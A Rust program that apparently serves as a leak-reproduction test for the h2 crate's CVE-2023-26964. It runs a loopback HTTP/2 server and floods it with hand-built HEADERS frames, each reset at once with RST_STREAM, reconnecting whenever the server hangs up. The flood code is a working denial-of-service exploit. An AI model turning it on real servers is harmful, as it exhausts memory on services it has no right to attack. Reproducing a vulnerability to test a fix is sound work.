//! h2 0.3.16 keeps every stream that a client opens and resets before the server has accepted it.
//! <https://github.com/hyperium/hyper/issues/2877> (CVE-2023-26964), fixed in 0.3.17; 0.3.18 is the first that
//! was not yanked.

use std::net::SocketAddr;
use std::time::Duration;

use bytes::Bytes;
use h2::server::{self, SendResponse};
use http::Response;
use leak_harness::Run;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::runtime::Runtime;
use tokio::time::{sleep, sleep_until};

const RESETS_PER_BEAT: u32 = 14;

fn main() {
    let runtime = Runtime::new().expect("a runtime");
    leak_harness::run(|run| {
        runtime.block_on(async {
            let listener = TcpListener::bind("127.0.0.1:0")
                .await
                .expect("a loopback port");
            let addr = listener.local_addr().expect("a bound address");
            tokio::spawn(listen(listener));
            loop {
                // A server that defends itself hangs up; the client comes back.
                let _hung_up = reset_flood(addr, run).await;
            }
        })
    });
}

async fn listen(listener: TcpListener) {
    while let Ok((socket, _)) = listener.accept().await {
        tokio::spawn(serve(socket));
    }
}

/// Takes one request after another, each with some work.
async fn serve(socket: TcpStream) -> Result<(), h2::Error> {
    let mut connection = server::handshake(socket).await?;
    while let Some(request) = connection.accept().await {
        let (_, respond) = request?;
        answer(respond);
        sleep(Duration::from_millis(50)).await;
    }
    Ok(())
}

fn answer(mut respond: SendResponse<Bytes>) {
    let _reset_meanwhile = respond.send_response(Response::new(()), true);
}

async fn reset_flood(addr: SocketAddr, run: &Run) -> std::io::Result<()> {
    let mut socket = TcpStream::connect(addr).await?;
    socket
        .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        .await?;
    socket.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    let (mut answers, mut requests) = socket.into_split();
    let drained = tokio::spawn(async move {
        let mut scratch = [0; 4096];
        while answers.read(&mut scratch).await.is_ok_and(|read| read > 0) {}
    });
    for stream in (1..1 << 31).step_by(2) {
        if stream % (2 * RESETS_PER_BEAT) == 1 {
            sleep_until(run.next_beat().into()).await;
        }
        requests
            .write_all(&frame(HEADERS, END_STREAM | END_HEADERS, stream, GET_ROOT))
            .await?;
        requests
            .write_all(&frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()))
            .await?;
    }
    drained.abort();
    Ok(())
}

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;
/// HPACK: indexed `:method: GET`, `:scheme: http`, `:path: /`, then literal `:authority: leak`.
const GET_ROOT: &[u8] = b"\x82\x86\x84\x01\x04leak";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = payload.len() as u32;
    let mut frame = length.to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}
